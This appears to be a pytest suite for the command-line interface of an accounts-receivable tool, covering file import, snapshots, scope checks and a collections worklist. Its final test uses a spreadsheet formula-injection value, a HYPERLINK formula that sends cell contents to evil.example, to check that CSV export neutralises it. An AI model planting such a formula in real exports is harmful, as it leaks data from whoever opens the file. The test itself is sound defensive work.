"""The CLI: exit codes, JSON contract, store unchanged on rejection."""

from __future__ import annotations

import json

import pytest

from ar_core.cli.entry import main
from tests.samples import LINES, TOTAL_EUR, fbl5n_german_text


@pytest.fixture
def db(tmp_path, monkeypatch):
    monkeypatch.setenv("AR_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite'}")
    monkeypatch.setenv("AR_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("AR_TODAY", "2026-11-20")
    return tmp_path


def _json(capsys) -> dict:
    return json.loads(capsys.readouterr().out)


def test_import_json_and_snapshots(db, capsys):
    f = db / "fbl5n.txt"
    f.write_bytes(fbl5n_german_text())
    assert main(["import", str(f), "--json"]) == 0
    out = _json(capsys)
    assert out["snapshot_id"] == 1
    assert out["as_of"] == "2026-11-20"
    assert out["rows"] == 4
    assert out["customers"] == 2
    assert out["totals"] == {"EUR": TOTAL_EUR}
    assert out["open_totals"] == {"EUR": TOTAL_EUR}
    assert out["errors"] == []

    assert main(["snapshots", "--json"]) == 0
    listed = _json(capsys)
    assert [(s["snapshot_id"], s["as_of"], s["rows"], s["totals"]) for s in listed] == [
        (1, "2026-11-20", 4, {"EUR": TOTAL_EUR})
    ]

    # The same content again is refused and nothing new is stored.
    assert main(["import", str(f), "--json"]) == 1
    assert "already" in _json(capsys)["errors"][0]["message"]
    main(["snapshots", "--json"])
    assert len(_json(capsys)) == 1


def test_rejected_file_prints_every_error_and_stores_nothing(db, capsys):
    bad = fbl5n_german_text().replace(b"10.000,00", b"10.000,0x").replace(b"01.09.2026", b"31.02.2026")
    f = db / "bad.txt"
    f.write_bytes(bad)
    assert main(["import", str(f)]) == 1
    err = capsys.readouterr().err
    assert "bad.txt, row 5, column 'Belegdatum'" in err
    assert "bad.txt, row 7, column 'Betrag in Hauswährung'" in err
    assert "rejected, nothing stored" in err
    assert main(["snapshots", "--json"]) == 0
    assert _json(capsys) == []


def test_dry_run_stores_nothing(db, capsys):
    f = db / "fbl5n.txt"
    f.write_bytes(fbl5n_german_text())
    assert main(["import", str(f), "--dry-run", "--json"]) == 0
    out = _json(capsys)
    assert out["snapshot_id"] is None
    assert out["totals"] == {"EUR": TOTAL_EUR}
    main(["snapshots", "--json"])
    assert _json(capsys) == []


def test_as_of_needed_when_file_has_none(db, capsys):
    text = fbl5n_german_text().replace(b"Stichtag 20.11.2026", b"Kundeneinzelposten")
    text = text.replace(b"20.11.2026                 Dynamische", b"Dynamische")
    f = db / "nodate.txt"
    f.write_bytes(text)
    assert main(["import", str(f), "--json"]) == 1
    assert "as-of" in _json(capsys)["errors"][0]["message"]
    assert main(["import", str(f), "--as-of", "2026-11-13", "--json"]) == 0
    assert _json(capsys)["as_of"] == "2026-11-13"


def test_generic_mapping_import(db, capsys):
    csv = (
        "countryCode,customerID,invoiceNumber,InvoiceDate,DueDate,InvoiceAmount,Disputed,SettledDate\n"
        '391,0379-NEVHP,0000611365,1/2/2026,2/1/2026,"1,055.94",No,1/15/2026\n'
        "406,8976-AMJEO,0007900770,10/26/2026,11/25/2026,61.74,Yes,\n"
    )
    mapping = (
        "columns: {customer_id: customerID, doc_no: invoiceNumber, doc_date: InvoiceDate,\n"
        "          due_date: DueDate, amount: InvoiceAmount, clearing_date: SettledDate,\n"
        "          disputed: Disputed}\n"
        "constants: {currency: EUR}\n"
        'date_format: "%m/%d/%Y"\n'
        'decimal: "."\n'
        'thousands: ","\n'
    )
    (db / "ar.csv").write_text(csv)
    (db / "m.yaml").write_text(mapping)
    assert (
        main(
            ["import", str(db / "ar.csv"), "--mapping", str(db / "m.yaml"), "--as-of", "2026-11-20", "--json"]
        )
        == 0
    )
    out = _json(capsys)
    # 1055.94 + 61.74 = 1117.68 in total; the first was cleared on 15.01.2026, so open is 61.74
    assert out["totals"] == {"EUR": "1117.68"}
    assert out["open_totals"] == {"EUR": "61.74"}


def test_missing_file(db, capsys):
    assert main(["import", str(db / "nope.csv")]) == 1
    assert "no such file" in capsys.readouterr().err


def test_customers_then_worklist(db, capsys):
    (db / "fbl5n.txt").write_bytes(fbl5n_german_text())
    (db / "customers.csv").write_text(
        "customer_id;name;country;language;collector;risk_class;credit_limit\n"
        "0000100001;Müller Maschinenbau GmbH;DE;de;colin;B;5.000,00\n"
        "0000100002;Bakker Logistiek B.V.;NL;nl;cora;C;50.000,00\n",
        encoding="utf-8",
    )
    assert main(["customers", str(db / "customers.csv"), "--json"]) == 0
    assert _json(capsys) == {"rows": 2, "inserted": 2, "updated": 0, "unchanged": 0}
    assert main(["import", str(db / "fbl5n.txt"), "--json"]) == 0
    capsys.readouterr()

    assert main(["worklist", "--format", "json"]) == 0
    rows = _json(capsys)
    assert [(r["rank"], r["customer_id"], r["collector"]) for r in rows] == [
        (1, "0000100002", "cora"),
        (2, "0000100001", "colin"),
    ]
    # Bakker: 10,000.00 + 0.10 (not yet due) open, 10,000.00 overdue since 09.11.2026
    assert (rows[0]["open_amount"], rows[0]["overdue_amount"], rows[0]["currency"]) == (
        "10000.10",
        "10000.00",
        "EUR",
    )
    assert rows[0]["max_days_overdue"] == 11
    assert rows[0]["next_action"] == "call"
    assert any("EUR 10,000 overdue" in reason for reason in rows[0]["reasons"])
    # Müller: 1,234.56 - 234.50 open; the invoice is overdue 50 days
    assert (rows[1]["open_amount"], rows[1]["overdue_amount"], rows[1]["max_days_overdue"]) == (
        "1000.06",
        "1234.56",
        50,
    )

    assert main(["worklist", "--collector", "colin", "--format", "json"]) == 0
    assert [r["customer_id"] for r in _json(capsys)] == ["0000100001"]
    assert main(["worklist", "--top", "1"]) == 0
    csv_lines = capsys.readouterr().out.splitlines()
    assert csv_lines[0].startswith("rank,customer_id,customer_name,collector,open_amount")
    assert len(csv_lines) == 2
    assert main(["worklist", "--as-of", "2026-01-01"]) == 1
    assert "No snapshot on or before 2026-01-01" in capsys.readouterr().err


def test_import_prints_the_scope_refuses_a_same_day_overlap_and_replaces_on_request(db, capsys):
    f = db / "fbl5n.txt"
    f.write_bytes(fbl5n_german_text())
    assert main(["import", str(f), "--json"]) == 0
    assert _json(capsys)["scope"] == {"full": False, "company_codes": ["1000"]}
    # another export of the same day and company code (one line less): refused unless --replace
    g = db / "again.txt"
    g.write_bytes(fbl5n_german_text(lines=LINES[:3], total="11.000,06"))
    assert main(["import", str(g), "--json"]) == 1
    message = _json(capsys)["errors"][0]["message"]
    assert "snapshot 1 of 20.11.2026 already covers part of this scope" in message
    assert main(["import", str(g), "--replace", "--scope", "full", "--json"]) == 0
    out = _json(capsys)
    assert (out["snapshot_id"], out["replaced"], out["scope"]) == (2, [1], {"full": True})
    assert main(["snapshots", "--json"]) == 0
    assert [(s["snapshot_id"], s["scope"]) for s in _json(capsys)] == [(2, {"full": True})]
    assert (
        main(["import", str(f), "--scope", "1000", "--customers", "0000100001", "--as-of", "2026-11-20"]) == 1
    )
    assert "outside the chosen scope" in capsys.readouterr().err


def test_import_without_key_date_names_the_missing_as_of(db, capsys):
    f = db / "nodate.txt"
    f.write_bytes(fbl5n_german_text().replace(b"Stichtag 20.11.2026", b"").replace(b"20.11.2026   ", b""))
    assert main(["import", str(f)]) == 1
    assert "no as-of (key) date" in capsys.readouterr().err


def test_worklist_csv_neutralises_every_text_cell(db, capsys, monkeypatch):
    """A customer id (or any text) such as ``=HYPERLINK(...)`` stays text in the CSV; amounts stay numbers."""
    import csv
    import io
    from datetime import date
    from decimal import Decimal

    import polars as pl

    frame = pl.DataFrame(
        {
            "rank": [1],
            "customer_id": ['=HYPERLINK("http://evil.example/?x="&A1,"0000100001")'],
            "customer_name": ["+Müller"],
            "collector": ["@colin"],
            "open_amount": [Decimal("-100.00")],
            "overdue_amount": [Decimal("0.00")],
            "currency": ["EUR"],
            "max_days_overdue": [3],
            "score": [1.5],
            "reasons": [["-credit balance"]],
            "next_action": ["=1+1"],
        },
        schema_overrides={"open_amount": pl.Decimal(18, 2), "overdue_amount": pl.Decimal(18, 2)},
    )
    monkeypatch.setattr(
        "ar_core.collections.team.snapshot_for", lambda engine, as_of: (1, date(2026, 11, 20))
    )
    monkeypatch.setattr("ar_core.collections.team.team_worklist", lambda *a, **k: (frame, []))
    assert main(["worklist", "--format", "csv"]) == 0
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["customer_id"].startswith("'=HYPERLINK(")
    assert (row["customer_name"], row["collector"], row["reasons"], row["next_action"]) == (
        "'+Müller", "'@colin", "'-credit balance", "'=1+1",
    )  # fmt: skip
    assert (row["open_amount"], row["currency"]) == ("-100.00", "EUR")
